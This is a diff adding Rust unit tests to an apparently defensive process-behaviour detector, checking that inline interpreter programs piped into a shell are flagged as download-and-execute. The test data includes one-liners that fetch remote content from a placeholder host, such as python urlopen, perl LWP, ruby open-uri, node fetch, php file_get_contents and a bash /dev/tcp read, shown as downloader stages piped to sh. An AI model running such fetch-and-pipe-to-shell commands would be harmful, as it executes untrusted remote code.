@@ -662,3 +662,147 @@ fn a_binary_a_downloader_wrote_is_download_and_execute() {
     assert_eq!(found[0].context.additional["executedFile"], "script");
     assert_eq!(found[0].context.additional["downloadedBy"], "/usr/bin/wget");
 }
+
+fn connect(pid: u32, ret: i32, remote: Option<&str>) -> Event {
+    Event::Connect(crate::event::NetInfo {
+        time: "2026-12-05T01:00:01Z".into(),
+        process: ProcessRef {
+            pid,
+            tid: pid,
+            start_time_ns: u64::from(pid) * 1000,
+            uuid: format!("uuid-{pid}"),
+            host_namespaces: true,
+            ..ProcessRef::default()
+        },
+        ret,
+        error: (ret < 0).then(|| "ECONNREFUSED".to_owned()),
+        family: if remote.is_some() {
+            "AF_INET"
+        } else {
+            "AF_UNIX"
+        },
+        protocol: "tcp",
+        remote: remote.map(|r| r.parse().expect("a socket address")),
+        unix_path: remote.is_none().then(|| "/run/x.sock".to_owned()),
+        fd: 3,
+        repeats: 0,
+    })
+}
+
+/// Rule ids of the pipe and download findings these events raise, with the pid each is about.
+fn raised_by(events: &[Event]) -> Vec<(String, u32)> {
+    let mut d = detector();
+    let mut out = Vec::new();
+    for e in events {
+        for o in d.process(e, &NoLookup) {
+            let rule = o
+                .finding
+                .context
+                .additional
+                .get("ruleId")
+                .cloned()
+                .unwrap_or_default();
+            if rule.contains("-pipe-exec") || rule == "behaviour-download-exec" {
+                out.push((rule, o.finding.process.as_ref().map_or(0, |p| p.pid)));
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn an_inline_program_that_connects_out_is_a_downloader() {
+    const PY: &[&str] = &[
+        "python3",
+        "-c",
+        "import urllib.request as u; print(u.urlopen('http://h/x').read().decode())",
+    ];
+    let download = || ("behaviour-download-pipe-exec".to_owned(), 31);
+    // `python3 -c '...urlopen...' | sh`: the shell exec'd first, python connected afterwards.
+    let events = [
+        exec(&x(31, "/usr/bin/dash", &["sh"], Some(7), None)),
+        exec(&x(30, "/usr/bin/python3.11", PY, None, Some(7))),
+        connect(30, 0, Some("127.0.0.1:8000")),
+    ];
+    assert_eq!(raised_by(&events), [download()]);
+    // The same with perl -e, ruby -e, node -e, php -r and bash -c writers.
+    for argv in [
+        &["perl", "-MLWP::Simple", "-e", "getprint 'http://h/x'"][..],
+        &[
+            "ruby",
+            "-e",
+            "require 'open-uri'; puts URI.open('http://h/x').read",
+        ],
+        &["node", "-e", "fetch('http://h/x')"],
+        &["php", "-r", "echo file_get_contents('http://h/x');"],
+        &["bash", "-c", "exec 3<>/dev/tcp/h/80; cat <&3"],
+    ] {
+        let exe: &'static str = match argv[0] {
+            "perl" => "/usr/bin/perl",
+            "ruby" => "/usr/bin/ruby",
+            "node" => "/usr/bin/node",
+            "php" => "/usr/bin/php",
+            _ => "/usr/bin/bash",
+        };
+        let argv: &'static [&'static str] = Box::leak(argv.to_vec().into_boxed_slice());
+        let events = [
+            exec(&x(31, "/usr/bin/dash", &["sh"], Some(7), None)),
+            exec(&x(30, exe, argv, None, Some(7))),
+            connect(30, 0, Some("10.0.0.1:80")),
+        ];
+        assert_eq!(raised_by(&events), [download()], "{argv:?}");
+    }
+    // A file it wrote, run: download-and-execute.
+    let Event::Exec(mut run) = exec(&x(32, "/srv/app/t", &["./t"], None, None)) else {
+        unreachable!()
+    };
+    run.written_by = Some(crate::event::Writer {
+        pid: 30,
+        uid: 0,
+        comm: "python3".into(),
+        time: "2026-12-05T01:00:02Z".into(),
+    });
+    let fetched = |connected: Event| {
+        raised_by(&[
+            exec(&x(30, "/usr/bin/python3.11", PY, None, None)),
+            connected,
+            Event::Exec(run.clone()),
+        ])
+    };
+    assert_eq!(
+        fetched(connect(30, 0, Some("127.0.0.1:8000"))),
+        [("behaviour-download-exec".to_owned(), 32)]
+    );
+    // Benign: no connect, a refused connect, a unix socket, a module (`python3 -m pip`), a
+    // script file, a reader that runs a command string.
+    assert!(fetched(connect(30, -111, Some("127.0.0.1:8000"))).is_empty());
+    assert!(fetched(connect(30, 0, None)).is_empty());
+    assert!(fetched(connect(99, 0, Some("127.0.0.1:8000"))).is_empty());
+    for argv in [
+        &["python3", "-m", "pip", "install", "x"][..],
+        &["python3", "-Im", "pip", "download", "x"],
+        &["python3", "tool.py"],
+    ] {
+        let argv: &'static [&'static str] = Box::leak(argv.to_vec().into_boxed_slice());
+        let events = [
+            exec(&x(31, "/usr/bin/dash", &["sh"], Some(7), None)),
+            exec(&x(30, "/usr/bin/python3.11", argv, None, Some(7))),
+            connect(30, 0, Some("127.0.0.1:8000")),
+        ];
+        assert!(raised_by(&events).is_empty(), "{argv:?}");
+    }
+    let events = [
+        exec(&x(31, "/usr/bin/dash", &["sh", "-c", "cat"], Some(7), None)),
+        exec(&x(30, "/usr/bin/python3.11", PY, None, Some(7))),
+        connect(30, 0, Some("127.0.0.1:8000")),
+    ];
+    assert!(raised_by(&events).is_empty());
+    // The pid execs something else before it connects: no longer the inline program.
+    let events = [
+        exec(&x(31, "/usr/bin/dash", &["sh"], Some(7), None)),
+        exec(&x(30, "/usr/bin/python3.11", PY, None, Some(7))),
+        exec(&x(30, "/usr/bin/true", &["true"], None, Some(7))),
+        connect(30, 0, Some("127.0.0.1:8000")),
+    ];
+    assert!(raised_by(&events).is_empty());
+}
